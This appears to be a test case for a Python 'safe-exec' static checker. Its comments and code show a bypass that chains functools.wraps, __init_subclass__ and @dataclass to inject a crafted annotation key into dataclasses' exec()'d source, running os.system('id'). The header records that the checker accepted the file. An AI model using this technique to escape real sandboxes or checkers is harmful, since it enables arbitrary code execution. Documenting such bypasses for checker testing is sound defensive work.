# expect: reject module_attribute
# Mechanism: functools.wraps(obj) as a class decorator setattr()s obj.__annotations__ 
#   (from obj's __getattr__) onto the class, then fails; __init_subclass__ keeps the class; 
#   a stacked decorator hands it to @dataclass, which pastes the annotation keys into 
#   exec()'d __repr__ source
# Goal reached: code injected into dataclasses' exec; ran a process (id)
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | wraps failed after writing the annotations: 'mappingproxy' object has no attribute 'update'
#   | uid=0(root) gid=0(root) groups=0(root)
#   | Victim(__class__ or0=<class '__main__.Victim'>)
# functools.wraps(obj) used as a class decorator copies getattr(obj, "__annotations__")
# onto the class (setattr) before failing on the class's read-only __dict__; obj's
# own __getattr__ supplies any dict. __init_subclass__ keeps the half-wrapped class.
# A stacked decorator then hands that class to @dataclass, which pastes the
# annotation keys (field names) into the source it exec()s.
import dataclasses
import functools

kept = []


class Base:
    def __init_subclass__(cls):
        kept.append(cls)


class Donor:
    __slots__ = ()

    def __getattr__(self, name):
        if name == "__annotations__":
            return {"__class__ or{__import__('os').system('id')}": int}
        raise AttributeError(name)


try:
    @functools.wraps(Donor())
    class Victim(Base):
        pass
except AttributeError as e:
    print("wraps failed after writing the annotations:", e)


def swap(cls):
    return kept[0]


@dataclasses.dataclass(init=False, eq=False)
@swap
class Point:
    pass


print(repr(Point()))
